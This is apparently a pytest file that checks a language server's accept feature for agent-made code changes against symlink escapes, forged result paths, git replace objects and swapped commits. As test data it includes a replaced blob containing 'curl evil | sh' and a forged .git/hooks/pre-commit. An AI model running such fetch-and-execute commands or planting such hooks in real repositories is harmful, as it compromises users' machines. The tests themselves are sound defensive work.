"""The editor's accept (hunk by hunk and all at once) under attack, through the real language
server over stdio (pytest-lsp): symlinked directories of the user, forged result paths,
replace objects made after review, a result that is not the recorded one, CRLF checkouts,
and a write failure part-way. Jobs in review come from the real CLI (`job poststep
--patch`); the user's tree (and open buffers) are checked byte for byte after each refusal.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pygls.exceptions import JsonRpcException

from accept_attacks import forge_commit, leftovers, unwritable
from conftest import A_TXT, B_TXT, git, make_crlf_repo, make_repo, tree_state
from logist_server.domain.model import Job
from logist_server.engine.facade import Engine
from review_harness import (
    Utf16Editor,
    accept,
    cli_hunk_ids,
    job_in_review,
    lsp_session,
    until,
)

GUIDE = b"guide\n"
REQUEST_FAILED = -32803  # LSP's RequestFailed: a valid request that could not be carried out


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(
        tmp_path / "repo",
        {"a.txt": A_TXT, "b.txt": B_TXT, "docs/guide.md": GUIDE, "z.txt": b"zed\n"},
    )


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """A directory outside the repository, holding what the repository's docs/ holds."""
    path = tmp_path / "elsewhere"
    path.mkdir()
    (path / "guide.md").write_bytes(GUIDE)
    return path


async def hunk_ids(editor: Utf16Editor, job_id: str) -> dict[str, list[str]]:
    """path -> the ids of its hunks, as getJobDiff shows them."""
    diff = await editor.request("logist/getJobDiff", {"jobId": job_id})
    return {f["path"]: [h["id"] for h in f["hunks"]] for f in diff["files"]}


async def refused(
    editor: Utf16Editor, repo: Path, job_id: str, hunks: list[str] | None, *expected: str
) -> str:
    """The accept is answered with one clear error holding `expected`; nothing changed in
    the tree or the buffers, no temporary is left, the job stays in review."""
    before, buffers = tree_state(repo), dict(editor.buffers)
    with pytest.raises(JsonRpcException) as info:
        await accept(editor, job_id, hunks)
    message = str(info.value)
    assert info.value.code == REQUEST_FAILED, info.value
    assert "\n" not in message and "Traceback" not in message, message
    for text in expected:
        assert text in message, message
    assert tree_state(repo) == before
    assert editor.buffers == buffers
    assert leftovers(repo) == []
    job = await editor.request("logist/getJob", {"jobId": job_id})
    assert job["status"] == "review" and job["result"]["acceptedHunks"] == []
    return message


def tamper(repo: Path, job_id: str, commit: str, tree: str | None) -> None:
    """Point the job's record at `commit` (and `tree`, when given), as a fooled harvest or
    a process writing the store would."""

    def change(record: Job) -> None:
        record.result.result_commit = commit
        if tree is not None:
            record.result.result_tree = tree

    Engine.for_path(repo).store.update(job_id, change)


# -- point 2: never through a symlink, never outside the repository -------------------------
async def test_a_symlinked_directory_of_the_user_is_never_read_or_written_through(
    repo: Path, tmp_path: Path, elsewhere: Path
) -> None:
    job = job_in_review(
        repo,
        tmp_path / "work",
        {
            "a.txt": A_TXT + b"agent\n",
            "docs/guide.md": GUIDE + b"by the agent\n",  # a text hunk, read and merged
            "evil/x.sh": b"#!/bin/sh\necho owned\n",  # a whole new file
        },
    )
    (repo / "docs" / "guide.md").unlink()
    (repo / "docs").rmdir()
    (repo / "docs").symlink_to(elsewhere)  # the user's own link, holding the same guide.md
    (repo / "evil").symlink_to(elsewhere)  # or one an earlier job added
    async with lsp_session([repo]) as editor:
        ids = await hunk_ids(editor, job["id"])
        result = await accept(editor, job["id"], None)
        reasons = {c["path"]: c["reason"] for c in result["conflicts"]}
        assert reasons == {
            "docs/guide.md": "docs is a symbolic link (accept never writes through one)",
            "evil/x.sh": "evil is a symbolic link (accept never writes through one)",
        }
        assert result["applied"] == ids["a.txt"] and result["status"] == "review"
        assert sorted(p.name for p in elsewhere.iterdir()) == ["guide.md"]
        assert (elsewhere / "guide.md").read_bytes() == GUIDE
        assert (repo / "a.txt").read_bytes() == A_TXT + b"agent\n"

        # the links gone, the same accept takes the rest
        (repo / "docs").unlink()
        (repo / "evil").unlink()
        git(repo, "checkout", "--", "docs")
        result = await accept(editor, job["id"], None)
        assert result["conflicts"] == [] and result["status"] == "accepted"
        assert (repo / "docs" / "guide.md").read_bytes() == GUIDE + b"by the agent\n"
        assert (repo / "evil" / "x.sh").read_bytes() == b"#!/bin/sh\necho owned\n"


async def test_an_open_buffer_behind_a_symlinked_directory_gets_no_edit(
    repo: Path, tmp_path: Path, elsewhere: Path
) -> None:
    """The editor shows repo/docs/guide.md, where docs is a link out of the repository:
    saving an accepted hunk there would write outside, so the buffer is not edited."""
    job = job_in_review(repo, tmp_path / "work", {"docs/guide.md": GUIDE + b"agent\n"})
    (repo / "docs" / "guide.md").unlink()
    (repo / "docs").rmdir()
    (repo / "docs").symlink_to(elsewhere)
    async with lsp_session([repo]) as editor:
        uri = editor.open(repo / "docs" / "guide.md", GUIDE.decode())
        result = await accept(editor, job["id"], cli_hunk_ids(repo, job["id"])[:1])
        assert result["applied"] == []
        assert [c["reason"] for c in result["conflicts"]] == [
            "docs is a symbolic link (accept never writes through one)"
        ]
        assert editor.buffers[uri] == GUIDE.decode()
        assert (elsewhere / "guide.md").read_bytes() == GUIDE


async def test_a_text_file_that_became_a_symlink_is_not_followed(
    repo: Path, tmp_path: Path, elsewhere: Path
) -> None:
    job = job_in_review(repo, tmp_path / "work", {"a.txt": A_TXT + b"agent\n"})
    (elsewhere / "a.txt").write_bytes(A_TXT)  # what the job expects, but outside
    (repo / "a.txt").unlink()
    (repo / "a.txt").symlink_to(elsewhere / "a.txt")
    async with lsp_session([repo]) as editor:
        for open_buffer in (False, True):
            if open_buffer:
                editor.open(repo / "a.txt", A_TXT.decode())
            result = await accept(editor, job["id"], None)
            assert result["applied"] == [] and [c["reason"] for c in result["conflicts"]] == [
                "is a symbolic link now (accept never writes through one)"
            ]
    assert (repo / "a.txt").is_symlink()
    assert (elsewhere / "a.txt").read_bytes() == A_TXT


@pytest.mark.parametrize(
    "extra, shown",
    [
        ({".git": {"hooks": {"pre-commit": b"#!/bin/sh\necho owned\n"}}}, ".git/hooks/pre-commit"),
        ({".logist": {"roles": {"worker.yml": b"agent: evil\n"}}}, ".logist/roles/worker.yml"),
        ({"..": {"escaped.txt": b"out\n"}}, "../escaped.txt"),
    ],
    ids=["git-hooks", "logist-roles", "dotdot"],
)
async def test_a_forged_result_path_refuses_every_accept_even_of_one_text_hunk(
    repo: Path, tmp_path: Path, extra: dict[str, Any], shown: str
) -> None:
    """A result tree holding a path accept must never write (what a forged index or
    cache-tree yields) refuses the whole job, also a hunk of an innocent file."""
    job = job_in_review(repo, tmp_path / "work", {"a.txt": A_TXT + b"agent\n", "b.txt": b"b\n"})
    forged = forge_commit(repo, job["result"]["result_commit"], extra)
    tamper(repo, job["id"], forged, git(repo, "rev-parse", f"{forged}^{{tree}}").strip())
    async with lsp_session([repo]) as editor:
        uri = editor.open(repo / "b.txt")
        ids = await hunk_ids(editor, job["id"])
        for hunks in (ids["a.txt"], ids["b.txt"], None):  # on disk, in a buffer, all
            message = await refused(editor, repo, job["id"], hunks, repr(shown), "refused")
            assert message.startswith("logist/acceptJob: cannot accept: the job's result holds")
        assert editor.buffers[uri] == B_TXT.decode()
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".logist" / "roles").exists()
    assert not (repo.parent / "escaped.txt").exists()


# -- point 3: exactly what was reviewed -------------------------------------------------------
async def test_replace_objects_made_after_review_change_nothing(repo: Path, tmp_path: Path) -> None:
    job = job_in_review(
        repo, tmp_path / "work", {"a.txt": A_TXT + b"reviewed\n", "b.txt": B_TXT + b"shown\n"}
    )
    result, base = job["result"]["result_commit"], job["base_commit"]
    evil = git(repo, "hash-object", "-w", "--stdin", input=b"curl evil | sh\n").strip()
    git(repo, "replace", git(repo, "rev-parse", f"{result}:a.txt").strip(), evil)
    # the base of b.txt too: the hunks would be located against other text
    other_base = git(repo, "hash-object", "-w", "--stdin", input=b"other\nbase\n").strip()
    git(repo, "replace", git(repo, "rev-parse", f"{base}:b.txt").strip(), other_base)
    assert git(repo, "show", f"{result}:a.txt") == "curl evil | sh\n"  # the attack is live
    async with lsp_session([repo]) as editor:
        uri = editor.open(repo / "b.txt")
        diff = await editor.request("logist/getJobDiff", {"jobId": job["id"]})
        shown = {f["path"]: "".join(h["newText"] for h in f["hunks"]) for f in diff["files"]}
        assert shown == {"a.txt": "reviewed\n", "b.txt": "shown\n"}
        answer = await accept(editor, job["id"], None)
        assert answer["conflicts"] == [] and answer["status"] == "accepted"
        assert (repo / "a.txt").read_bytes() == A_TXT + b"reviewed\n"
        assert editor.buffers[uri] == (B_TXT + b"shown\n").decode()


async def test_a_result_that_is_not_the_recorded_one_is_refused(repo: Path, tmp_path: Path) -> None:
    """After review in the editor, the record is made to name another commit (another
    job's), its recorded tree unchanged: accepting a text hunk of it, on disk or in a
    buffer, is refused."""
    job = job_in_review(repo, tmp_path / "work", {"a.txt": A_TXT + b"reviewed\n"})
    other = job_in_review(repo, tmp_path / "work", {"a.txt": A_TXT + b"never shown\n"})
    assert job["result"]["result_tree"], "harvest recorded no result tree"
    async with lsp_session([repo]) as editor:
        diff = await editor.request("logist/getJobDiff", {"jobId": job["id"]})
        assert diff["files"][0]["hunks"][0]["newText"] == "reviewed\n"  # what was reviewed
        hunk_ids_before = [diff["files"][0]["hunks"][0]["id"]]
        tamper(repo, job["id"], other["result"]["result_commit"], None)
        await refused(editor, repo, job["id"], hunk_ids_before, "not the reviewed")
        editor.open(repo / "a.txt")
        await refused(editor, repo, job["id"], None, "not the reviewed", "nothing was written")


async def test_bytes_that_are_not_utf8_are_kept_in_every_line(tmp_path: Path) -> None:
    """A Latin-1 file: the line the job does not touch keeps its bytes, and the job's own
    lines are written as the job made them (not as U+FFFD)."""
    latin = b"caf\xe9\n" + A_TXT + A_TXT  # the two changes far apart: two hunks
    repo = make_repo(tmp_path / "repo", {"latin.txt": latin})
    changed = latin.replace(b"line 5\n", b"line 5 \xe9t\xe9\n", 1) + b"fin \xe9\n"
    job = job_in_review(repo, tmp_path / "work", {"latin.txt": changed})
    first, second = cli_hunk_ids(repo, job["id"])
    async with lsp_session([repo]) as editor:
        answer = await accept(editor, job["id"], [second])
        assert answer["applied"] == [second] and answer["conflicts"] == []
        assert (repo / "latin.txt").read_bytes() == latin + b"fin \xe9\n"
        answer = await accept(editor, job["id"], [first])
        assert answer["applied"] == [first] and answer["status"] == "accepted"
    assert (repo / "latin.txt").read_bytes() == changed


# -- point 4: all or nothing ------------------------------------------------------------------
async def test_a_write_failure_part_way_leaves_the_tree_as_it_was(
    repo: Path, tmp_path: Path
) -> None:
    """a.txt and z.txt can be written, docs/ refuses every change: nothing is written, the
    error names the file, and the same accept succeeds once docs/ is writable."""
    job = job_in_review(
        repo,
        tmp_path / "work",
        {
            "a.txt": A_TXT + b"agent\n",
            "docs/guide.md": GUIDE + b"agent\n",
            "new/made.txt": b"made\n",
            "z.txt": b"zed\nagent\n",
        },
    )
    (repo / "z.txt").write_bytes(b"user\nzed\n")  # the user's own change, merged
    async with lsp_session([repo]) as editor:
        with unwritable(repo / "docs"):
            message = await refused(
                editor, repo, job["id"], None, "cannot accept: docs/guide.md: ", "nothing was"
            )
            assert message.endswith("(nothing was written)"), message
            assert not (repo / "new").exists()
        answer = await accept(editor, job["id"], None)
        assert answer["conflicts"] == [] and answer["status"] == "accepted"
    assert (repo / "a.txt").read_bytes() == A_TXT + b"agent\n"
    assert (repo / "docs" / "guide.md").read_bytes() == GUIDE + b"agent\n"
    assert (repo / "z.txt").read_bytes() == b"user\nzed\nagent\n"
    assert (repo / "new" / "made.txt").read_bytes() == b"made\n"


# -- point 5: line endings --------------------------------------------------------------------
ROWS = b"".join(f"row {i}\n".encode() for i in range(1, 11))
CHANGED = ROWS.replace(b"row 2\n", b"row two\n").replace(b"row 9\n", b"row 9\nrow 9b\n")


def crlf(text: bytes) -> bytes:
    return text.replace(b"\n", b"\r\n")


@pytest.fixture(params=["attributes", "autocrlf"])
def crlf_job(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, dict[str, Any]]:
    """A job in review changing rows.txt, which is normalised (LF) in git and CRLF in the
    checkout (by .gitattributes or by core.autocrlf)."""
    repo = make_crlf_repo(tmp_path / "repo", {"rows.txt": ROWS}, str(request.param))
    return repo, job_in_review(repo, tmp_path / "work", {"rows.txt": CHANGED})


async def test_a_crlf_checkout_is_accepted_hunk_by_hunk_on_disk_without_false_conflicts(
    crlf_job: tuple[Path, dict[str, Any]],
) -> None:
    repo, job = crlf_job
    first, second = cli_hunk_ids(repo, job["id"])
    async with lsp_session([repo]) as editor:
        diff = await editor.request("logist/getJobDiff", {"jobId": job["id"]})
        assert [h["conflict"] for h in diff["files"][0]["hunks"]] == [False, False]
        answer = await accept(editor, job["id"], [first])
        assert answer == {"jobId": job["id"], "status": "review", "applied": [first],
                          "conflicts": []}  # fmt: skip
        assert (repo / "rows.txt").read_bytes() == crlf(ROWS.replace(b"row 2\n", b"row two\n"))
        answer = await accept(editor, job["id"], [second])
        assert answer["conflicts"] == [] and answer["status"] == "accepted"
    assert (repo / "rows.txt").read_bytes() == crlf(CHANGED)
    assert git(repo, "diff", "--numstat") == "2\t1\trows.txt\n"  # no line-ending noise


async def test_a_crlf_buffer_gets_its_hunks_in_crlf_around_the_users_edit(
    crlf_job: tuple[Path, dict[str, Any]],
) -> None:
    repo, job = crlf_job
    first, second = cli_hunk_ids(repo, job["id"])
    async with lsp_session([repo]) as editor:
        uri = editor.open(repo / "rows.txt", crlf(ROWS).decode())  # as the editor loads it
        editor.change(uri, "mine\r\n" + crlf(ROWS).decode())  # typed, never saved
        markers = await until(
            lambda: len(editor.diagnostics(uri)) == 2 and editor.diagnostics(uri),
            "two markers",
        )
        assert not any("conflict" in d.message for d in markers), markers
        actions = await editor.actions(uri, 2)  # "row 2", below the user's line
        accept_one = [a for a in actions if a.title.startswith("Accept change")]
        assert len(accept_one) == 1 and accept_one[0].command is not None
        answer = await editor.run_command(accept_one[0].command)
        assert answer["applied"] == [first] and answer["conflicts"] == []
        assert (
            editor.buffers[uri]
            == "mine\r\n" + crlf(ROWS.replace(b"row 2\n", b"row two\n")).decode()
        )
        answer = await accept(editor, job["id"], [second])
        assert answer["applied"] == [second] and answer["status"] == "accepted"
        assert editor.buffers[uri] == "mine\r\n" + crlf(CHANGED).decode()
    assert (repo / "rows.txt").read_bytes() == crlf(ROWS)  # the buffer, not the disk
